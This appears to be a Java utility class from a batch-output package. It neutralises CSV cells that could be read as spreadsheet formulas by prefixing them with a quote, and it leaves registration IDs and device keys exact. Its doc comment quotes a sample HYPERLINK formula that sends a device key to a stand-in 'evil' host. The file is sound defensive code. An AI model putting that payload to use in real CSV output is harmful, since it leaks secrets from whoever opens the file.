package io.dpsbatch.output;

import java.util.regex.Pattern;

/**
 * Keeps the cells of the CSV outputs from being taken for formulas when a file is opened
 * in a spreadsheet (OWASP, "CSV Injection"): a manifest attribute such as
 * {@code =HYPERLINK("https://evil/?"&E2,"x")} would otherwise send a device key away when
 * someone clicks it. A value that starts with {@code =}, {@code +}, {@code -}, {@code @},
 * a tab or a carriage return is written with a single quote in front, which the
 * spreadsheet shows as text.
 * <p>
 * Values made only of letters, digits and {@code . _ : -} are written as they are, even
 * when they start with {@code -}: a registration ID may (and so may a negative number),
 * and without parentheses, quotes, {@code !} or {@code |} such a value cannot call a
 * function, open a link or start a program, while a quote in front would change the ID a
 * device is flashed with. Device keys are never changed either (the caller leaves them
 * out): base64 has none of those characters, and a key must be exact.
 */
final class SpreadsheetCells {

	/**
	 * The registration ID alphabet: nothing in it can make a formula do more than
	 * arithmetic.
	 */
	private static final Pattern INERT = Pattern.compile("[A-Za-z0-9._:-]*");

	private SpreadsheetCells() {
	}

	/**
	 * The value as it is safe to write in a CSV cell; {@code null} stays {@code null}.
	 */
	static String neutralised(String value) {
		if (value == null || value.isEmpty() || !startsLikeAFormula(value.charAt(0))
				|| INERT.matcher(value).matches()) {
			return value;
		}
		return "'" + value;
	}

	/**
	 * {@link #neutralised(String)} for any cell value; numbers and nulls pass through.
	 */
	static Object neutralised(Object value) {
		return (value instanceof String text) ? neutralised(text) : value;
	}

	private static boolean startsLikeAFormula(char first) {
		return first == '=' || first == '+' || first == '-' || first == '@' || first == '\t' || first == '\r';
	}

}
